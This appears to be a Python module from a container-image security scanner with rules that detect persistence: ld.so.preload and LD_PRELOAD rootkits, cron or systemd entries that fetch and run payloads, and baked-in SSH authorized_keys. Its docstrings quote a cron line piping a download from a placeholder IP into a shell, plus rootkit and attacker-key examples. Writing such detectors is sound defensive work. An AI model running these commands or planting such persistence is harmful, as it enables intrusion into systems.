"""Persistence an image plants: preloaded libraries, scheduled and started commands, login keys."""

from __future__ import annotations

import enum
import re
from collections.abc import Iterator, Mapping
from typing import ClassVar

from outwork.analyzers.images.context import Fate
from outwork.analyzers.images.indicators import SUSPICIOUS_COMMAND, decided, matches
from outwork.core.analyzer import Emitted
from outwork.core.artifact import Artifact
from outwork.core.findings import finding
from outwork.core.rules import Confidence, Layer, Rule, Severity

_NOTE = {Fate.RUNS: "", Fate.SHIPPED: " (deleted or overwritten by a later layer; still shipped)"}

PRELOAD_FILE = "etc/ld.so.preload"
#: Files whose lines a shell, the dynamic loader or PAM reads into every process's environment.
ENVIRONMENT_FILES = re.compile(
    r"^(?:etc/environment|etc/profile|etc/profile\.d/[^/]+|etc/bash\.bashrc"
    r"|(?:root|home/[^/]+)/\.(?:bashrc|profile|bash_profile|zshrc)|etc/rc\.local)$"
)
SCHEDULED = re.compile(
    r"^(?:etc/crontab|etc/anacrontab|etc/cron\.(?:d|hourly|daily|weekly|monthly)/[^/]+"
    r"|var/spool/cron/(?:crontabs/)?[^/]+)$"
)
STARTED = re.compile(
    r"^(?:(?:etc|usr/lib|lib)/systemd/(?:system|user)/.+\.(?:service|timer|socket)"
    r"|(?:root|home/[^/]+)/\.config/systemd/user/.+\.service|etc/init\.d/[^/]+|etc/rc\.local)$"
)
AUTHORIZED_KEYS = re.compile(r"(?:^|/)\.ssh/authorized_keys2?$")
_KEY_LINE = re.compile(
    rb"^[^#\n]*\b(?:ssh-(?:rsa|dss|ed25519)|ecdsa-sha2-nistp\d+|sk-(?:ssh-ed25519|ecdsa-sha2-"
    rb"nistp256)@openssh\.com)\s+AAAA[0-9A-Za-z+/]{16,}",
    re.M,
)
_LD_PRELOAD = re.compile(rb"^[^#\n]*\bLD_PRELOAD\s*=\s*['\"]?[^\s'\"]+", re.M)
_SYSTEMD_EXEC = re.compile(rb"^\s*(?:Exec\w*|Environment)\s*=(.*)$", re.M)


class PreloadRootkit(Rule):
    """The image makes every process load a library first: `/etc/ld.so.preload` or `LD_PRELOAD`.

    ## What it finds

    A non-empty `/etc/ld.so.preload`, and `LD_PRELOAD` set in the image's environment (its
    config's `Env`), in `/etc/environment`, shell profiles or systemd units.

    ## Why it matters

    A preloaded library runs inside every dynamically linked program before `main`: it is how
    user-space rootkits (Jynx, Azazel, libprocesshider, the Kinsing and TeamTNT kits) hide
    processes, files and connections and steal credentials. Legitimate images almost never
    preload anything.

    ## Example

    ```text
    /etc/ld.so.preload:  /usr/local/lib/libprocesshider.so
    ```

    ## Remediation

    Do not run the image. Identify the library and the layer that added it; rebuild from a
    trusted base. If a tool really needs preloading (a memory allocator), set it at run time.

    ## References

    - MITRE ATT&CK T1574.006 Dynamic Linker Hijacking
    - ld.so(8)
    - CWE-426
    """

    code = "IMG009"
    name = "preload-rootkit"
    layer = Layer.IMG
    severity = Severity.CRITICAL
    confidence = Confidence.MEDIUM
    cwe = (426, 506)
    attack = ("T1574.006",)
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Fate.RUNS: Severity.CRITICAL,
        Fate.SHIPPED: Severity.MEDIUM,
    }


class ScheduledOrStartedPayload(Rule):
    """A cron entry, systemd unit, init script or shell profile of the image fetches and runs
    code, or runs it from a world-writable or hidden place.

    ## What it finds

    Lines of crontabs (`/etc/crontab`, `/etc/cron.*`, `/var/spool/cron`), systemd units
    (`Exec*=` lines), init scripts, `rc.local` and shell profiles that pipe a download into a
    shell, download then run, decode a base64 payload into a shell, or run a program from
    `/tmp`, `/dev/shm` or a hidden folder.

    ## Why it matters

    This is how droppers come back: a container, or a host that runs the image's units, fetches
    the current payload every few minutes, so deleting the miner does not remove it.

    ## Example

    ```text
    */5 * * * * root curl -fsSL http://203.0.113.7/s.sh | sh
    ```

    ## Remediation

    Remove the entry and rebuild; find which build step added it.

    ## References

    - MITRE ATT&CK T1053.003 Cron, T1543.002 Systemd Service
    - CWE-506
    """

    code = "IMG010"
    name = "scheduled-or-started-payload"
    layer = Layer.IMG
    severity = Severity.HIGH
    confidence = Confidence.MEDIUM
    cwe = (506, 829)
    attack = ("T1053.003", "T1543.002")
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Fate.RUNS: Severity.HIGH,
        Fate.SHIPPED: Severity.MEDIUM,
    }


class AuthorizedKeysInImage(Rule):
    """The image ships SSH `authorized_keys`: whoever holds the key logs in to its containers.

    ## What it finds

    An `authorized_keys` (or `authorized_keys2`) file under any `.ssh` folder of the image that
    holds at least one public key.

    ## Why it matters

    A key baked into an image is a standing login for its author into every container (and
    every host that mounts or copies the home folder); attackers drop one as their way back in.

    ## Example

    ```text
    /root/.ssh/authorized_keys: ssh-ed25519 AAAAC3Nz... attacker@box
    ```

    ## Remediation

    Remove the file; give access at run time with keys your deployment controls, or not at all.

    ## References

    - MITRE ATT&CK T1098.004 SSH Authorized Keys
    - CWE-798
    """

    code = "IMG011"
    name = "authorized-keys-in-image"
    layer = Layer.IMG
    severity = Severity.HIGH
    confidence = Confidence.HIGH
    cwe = (798,)
    attack = ("T1098.004",)
    inline_suppressible = False
    severities: ClassVar[Mapping[enum.Enum, Severity]] = {
        Fate.RUNS: Severity.HIGH,
        Fate.SHIPPED: Severity.MEDIUM,
    }


def is_persistence_path(path: str) -> bool:
    return bool(
        path == PRELOAD_FILE
        or ENVIRONMENT_FILES.match(path)
        or SCHEDULED.match(path)
        or STARTED.match(path)
        or AUTHORIZED_KEYS.search(path)
    )


def _line(data: bytes, offset: int) -> int:
    return data.count(b"\n", 0, offset) + 1


def check_file(artifact: Artifact, data: bytes, fate: Fate, path: str) -> Iterator[Emitted]:
    if path == PRELOAD_FILE:
        for number, line in enumerate(data.splitlines(), start=1):
            entry = line.split(b"#", 1)[0].strip()
            if entry:
                text = entry.decode("utf-8", errors="replace")[:200]
                yield finding(
                    PreloadRootkit,
                    f"/{path} preloads {text} into every process{_NOTE[fate]}",
                    line=number,
                    severity=PreloadRootkit.severity_in(fate),
                    evidence=text,
                )
                break
    elif ENVIRONMENT_FILES.match(path) or STARTED.match(path):
        hit = _LD_PRELOAD.search(data)
        if hit is not None:
            text = hit.group(0).decode("utf-8", errors="replace").strip()[:200]
            yield finding(
                PreloadRootkit,
                f"/{path} sets LD_PRELOAD for the processes it starts{_NOTE[fate]}",
                line=_line(data, hit.start()),
                severity=PreloadRootkit.severity_in(fate),
                evidence=text,
            )
    if SCHEDULED.match(path) or STARTED.match(path) or ENVIRONMENT_FILES.match(path):
        yield from _commands(data, fate, path)
    if AUTHORIZED_KEYS.search(path):
        key = _KEY_LINE.search(data)
        if key is not None:
            comment = key.group(0).split()[-1].decode("utf-8", errors="replace")[:80]
            yield finding(
                AuthorizedKeysInImage,
                f"/{path} lets the holder of a key log in ({len(_KEY_LINE.findall(data))} "
                f"key(s)){_NOTE[fate]}",
                line=_line(data, key.start()),
                severity=AuthorizedKeysInImage.severity_in(fate),
                evidence=comment,
            )


def _commands(data: bytes, fate: Fate, path: str) -> Iterator[Emitted]:
    systemd = path.endswith((".service", ".timer", ".socket"))
    offset = 0
    for raw in data.splitlines(keepends=True):
        start, offset = offset, offset + len(raw)
        line = raw.strip()
        if not line or line.startswith(b"#"):
            continue
        if systemd and not _SYSTEMD_EXEC.match(line):
            continue
        found = matches(SUSPICIOUS_COMMAND, line)
        if decided(found):
            names = ", ".join(sorted({i.name for i, _ in found}))
            yield finding(
                ScheduledOrStartedPayload,
                f"/{path} runs a suspicious command ({names}){_NOTE[fate]}",
                line=_line(data, start),
                severity=ScheduledOrStartedPayload.severity_in(fate),
                evidence=line.decode("utf-8", errors="replace")[:200],
            )
            return
